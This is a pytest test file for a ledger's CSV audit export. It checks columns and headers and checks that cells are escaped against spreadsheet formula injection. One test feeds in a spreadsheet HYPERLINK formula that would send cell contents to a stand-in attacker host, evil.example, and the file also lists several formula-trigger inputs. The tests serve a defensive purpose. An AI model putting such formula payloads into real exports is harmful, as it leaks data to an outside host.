"""Events as rows: always the same columns, one line each, and nothing a spreadsheet would run."""

import asyncio
import csv

import pytest
from acme import ask, click
from open_ledgers import open_ledger, prepare
from shelled import Terminal, a_history

from ledger.audit.csv_rows import COLUMNS, cell


def rows(terminal: Terminal, folder) -> list[dict[str, str]]:
    """Export to a file and return its rows by column."""
    path = folder / "out.csv"
    assert terminal.run("audit", "export", "--format", "csv", "--output", str(path)) == 0
    with path.open(newline="") as opened:
        found = list(csv.DictReader(opened, strict=True))
    assert len(path.read_text().splitlines()) == len(found) + 1
    return found


def test_there_is_one_row_an_event_with_its_columns(ledger_url, tmp_path) -> None:
    found = rows(a_history(ledger_url), tmp_path)

    assert [row["position"] for row in found] == [str(n) for n in range(1, 16)]
    assert tuple(found[0]) == COLUMNS
    assert {name: value for name, value in found[2].items() if name not in ("at", "what")} == {
        "position": "3",
        "event": "CallDecided",
        "actor": "agent:ci-bot",
        "agent": "ci-bot",
        "on_behalf_of": "",
        "server": "files",
        "tool": "write_file",
        "call": "call_1",
        "approval": "apr_1",
        "grant": "",
        "person": "",
        "decision": "require_approval",
        "rules": "writes",
        "risk": "write",
        "outcome": "",
        "reason": "",
        "policy_digest": "5f" * 32,
        "command_id": "decide-call_1",
        "correlation_id": "apr_1",
        "causation_id": "",
    }
    assert [found[7][name] for name in ("event", "person")] == ["ApprovalGiven", "bob"]
    assert [found[9][name] for name in ("outcome", "agent", "decision")] == [
        "ok",
        "ci-bot",
        "require_approval",
    ]
    assert [found[12][name] for name in ("grant", "call", "decision")] == [
        "grt_1",
        "call_2",
        "allow",
    ]


def test_a_header_stands_before_the_first_row_on_standard_output(sqlite_url, capfd) -> None:
    open_ledger(sqlite_url).close()

    Terminal(sqlite_url).run("audit", "export", "--format", "csv")

    assert capfd.readouterr().out == ",".join(COLUMNS) + "\n"


def test_an_export_that_goes_on_has_one_header(sqlite_url, tmp_path, capfd) -> None:
    terminal = a_history(sqlite_url)
    words = ("audit", "export", "--format", "csv", "--cursor", str(tmp_path / "cursor"))

    terminal.run(*words)
    first = capfd.readouterr().out
    terminal.run(*words)

    assert first.count("position,at,") == 1
    assert capfd.readouterr().out == ""


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("  =1+1", "'  =1+1"),
        ("\t=1", "'\\u{9}=1"),
        ("\r=1", "'\\u{D}=1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("a=b", "a=b"),
        ("line\none", "line\\u{A}one"),
        ("\u202egnp", "\\u{202E}gnp"),
        ("\x00\x1b[2J", "\\u{0}\\u{1B}[2J"),
        ("zwei Wörter", "zwei Wörter"),
        (None, ""),
    ],
)
def test_a_cell_is_inert_and_no_formula(text, shown) -> None:
    assert cell(text) == shown


def test_what_an_agent_or_a_person_writes_is_no_formula(sqlite_url, tmp_path) -> None:
    formula = '=HYPERLINK("http://evil.example/"&A1)\n,"x'

    async def record() -> None:
        await prepare(ledger)
        await ledger.execute(ask())
        at = await ledger.now()
        await ledger.execute(click("bob", at, approves=False, reason=formula))

    with open_ledger(sqlite_url) as ledger:
        asyncio.run(record())

    found = rows(Terminal(sqlite_url), tmp_path)

    assert found[-1]["event"] == "ApprovalDenied"
    assert found[-1]["reason"] == '\'=HYPERLINK("http://evil.example/"&A1)\\u{A},"x'
    cells = [value for row in found for value in row.values()]
    assert [value for value in cells if value[:1] in ("=", "+", "-", "@")] == []
